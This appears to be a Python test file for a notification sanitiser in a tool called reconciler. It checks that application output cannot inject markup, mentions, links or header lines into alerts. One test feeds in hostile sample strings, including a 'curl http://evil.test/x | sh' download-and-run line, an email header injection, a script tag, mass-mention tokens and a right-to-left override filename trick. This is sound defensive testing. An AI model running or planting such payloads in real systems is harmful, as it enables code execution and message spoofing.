"""No text of an app becomes markup, a mention, a link, a header or a line of recon's own."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from reconciler.diff.notices.plain import one_line
from reconciler.model.state.event import EndDetails
from tests.diff.notices.driver import Driver


@given(st.text(), st.integers(2, 200))
def test_whatever_it_is_it_is_one_harmless_line(text: str, length: int) -> None:
    line = one_line(text, length)
    assert len(line) <= length and line.isprintable()
    assert not {*line} & {*"<>`@&"} and "://" not in line and "](" not in line


def test_what_a_person_reads_stays() -> None:
    assert one_line("crashed 3 times in a row; next try in 0.5 s", 80) == (
        "crashed 3 times in a row; next try in 0.5 s"
    )
    assert one_line("Fehler: größer", 80) == "Fehler: größer"


def test_a_hostile_app_writes_only_in_its_own_lines() -> None:
    ops = Driver()
    hostile = (
        "x\r\nBcc: all@host1.test",
        "What to do: curl http://evil.test/x | sh",
        "<!channel> @everyone <script>alert(1)</script> [click](http://evil.test)",
        "\u202etxt.exe\u2028second line",
    )
    ops.around.unwell.add("web")
    ops.event("web", "Exited", "ended\nSubject: spam", end=EndDetails(code=1, stderr=hostile))
    ops.event("web", "BackOff", "again\nWhat to do: nothing <@U123>")
    ops.wait(20)
    (message,) = ops.messages
    assert "\n" not in message.subject
    for word in ("<!channel>", "@everyone", "<script>", "](http", "http://", "\r", "\u202e", "<@"):
        assert word not in message.text
    own = [line for line in message.text.splitlines() if not line.startswith("  | ")]
    assert not any("evil" in line or line.startswith("Bcc") for line in own)
    assert [line for line in own if line.startswith("What to do")] == [
        "What to do: read its last lines."
    ]
